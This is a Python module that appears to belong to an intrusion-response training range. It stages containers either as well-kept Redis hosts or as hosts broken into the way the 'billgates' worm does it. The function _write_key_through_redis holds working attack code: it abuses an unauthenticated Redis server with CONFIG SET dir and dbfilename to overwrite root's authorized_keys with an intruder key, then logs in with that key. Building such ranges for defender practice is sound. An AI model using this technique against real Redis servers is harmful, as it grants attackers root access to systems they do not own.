# Copyright (c) 2026, the ecsops.intrusion_response contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Staging: an ordinary host that is well kept, or one that the family "billgates" came into through Redis.

A host is staged on a fresh container only: whatever it was before is thrown away.
"""

import json
import secrets

from .base import RANGE, RangeError, run, say
from .hosts import make_key, operator_public_key
from .resp import Redis

PROFILES = ("clean", "billgates")
# The key's name in Redis, as in the wild.
REDIS_KEY = "crackit"
# One text on standard input carries both: the client becomes a module, then the script follows.
_WITH_CLIENT = """import sys, types
sys.modules["resp"] = types.ModuleType("resp")
exec(%r, sys.modules["resp"].__dict__)
"""


def stage(hosts, name, profile):
    """Make ``name`` of the set ``hosts`` anew and stage ``profile`` on it."""
    if profile not in PROFILES:
        raise RangeError("no such profile: %r; there are %s" % (profile, ", ".join(PROFILES)))
    hosts.create([name])
    say("%s/%s: staging %s" % (hosts.name, name, profile))
    ordinary = {"redis": "careless"} if profile == "billgates" else {
        "redis": "kept", "password": secrets.token_urlsafe(24)}
    facts = {"ordinary": _run_script(hosts, name, "ordinary.py", ordinary), "staged": profile}
    if profile == "clean":
        facts["redis_password"] = ordinary["password"]
    else:
        facts["intrusion"] = _intrude(hosts, name)
    hosts.remember(name, **facts)


def intruder_key(hosts, name):
    """Return the path of the private key with which the intruder came to ``name``."""
    return hosts.folder / ("intruder-" + name)


def script(name):
    """Return the source of a script for a host; it finds the Redis client as the module ``resp``."""
    client = (RANGE / "practice" / "resp.py").read_text(encoding="utf-8")
    return _WITH_CLIENT % client + (RANGE / "staging" / name).read_text(encoding="utf-8")


def _run_script(hosts, name, file_name, wanted):
    done = hosts.run(name, ["python3", "-", json.dumps(wanted)], stdin=script(file_name))
    return json.loads(done.stdout)


def _intrude(hosts, name):
    key = intruder_key(hosts, name)
    make_key(key, "root@crackit")
    public_key = key.with_name(key.name + ".pub").read_text(encoding="ascii").strip()
    _write_key_through_redis(address(hosts, name), public_key)

    locked_out = hosts.ssh(name, "true", check=False)
    if locked_out.returncode == 0:
        raise RangeError("Redis did not replace authorized_keys: the operator's key still works")
    # From here on it is the intruder who works, logged in with the key that Redis wrote.
    done = hosts.ssh(name, "python3 - '%s'" % json.dumps({"password": secrets.token_urlsafe(12)}), key=key,
                     stdin=script("billgates.py"))
    facts = json.loads(done.stdout)

    # The operator comes in by the console and puts their own key back, after the dump's bytes.
    hosts.run(name, ["sh", "-c", "{ echo; cat; } >> /root/.ssh/authorized_keys"], stdin=operator_public_key())
    hosts.ssh(name, "true")
    hosts.ssh(name, "true", key=key)
    facts["public_key"] = public_key
    facts["redis_key"] = REDIS_KEY
    return facts


def address(hosts, name):
    """Return the host's own address, on the containers' network."""
    shown = run(["podman", "inspect", "--format", "{{.NetworkSettings.IPAddress}}", hosts.container(name)])
    return shown.stdout.strip()


def _write_key_through_redis(address, public_key):
    """Do what such worms do: have Redis dump its data, with the key in it, as root's authorized_keys."""
    redis = Redis(address)
    redis("SET", REDIS_KEY, "\n\n\n%s\n\n\n" % public_key)
    redis("CONFIG", "SET", "rdbcompression", "no")
    redis("CONFIG", "SET", "dir", "/root/.ssh")
    redis("CONFIG", "SET", "dbfilename", "authorized_keys")
    redis("SAVE")
    redis("CONFIG", "REWRITE")
